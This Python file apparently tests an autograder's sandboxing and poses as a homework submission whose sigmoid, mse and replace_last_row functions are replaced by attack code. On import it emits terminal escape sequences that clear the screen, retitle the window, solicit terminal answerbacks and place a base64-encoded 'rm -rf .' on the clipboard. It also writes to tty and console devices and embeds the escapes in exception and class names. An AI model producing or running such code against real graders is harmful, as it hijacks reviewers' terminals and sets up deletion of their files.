"""Goal: take over the TA's terminal with escape sequences, in whatever the grader prints of a submission.

Without a sandbox: unsafe
"""

import sys

# Clears the screen, renames the window, writes to the clipboard, asks the terminal to type its answer.
ESCAPES = "\x1b[2J\x1b]0;graded\x07\x1b]52;c;cm0gLXJmIC4=\x07\x1b[6n\x9b6n\r\x08\x7f\u202e\u2028"

sys.stdout.write(ESCAPES)
sys.stderr.write(ESCAPES)
for device in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1"):
    try:
        with open(device, "w") as terminal:
            terminal.write("ATTACK SUCCEEDED")
    except OSError:
        continue
    raise RuntimeError(f"ATTACK SUCCEEDED: {device} can be written to")


def sigmoid(x):
    raise type(f"Error{ESCAPES}", (Exception,), {})(ESCAPES)


def mse(y_true, y_pred):
    return type(f"Result{ESCAPES}", (), {})()


def replace_last_row(x, row):
    raise KeyError(ESCAPES)
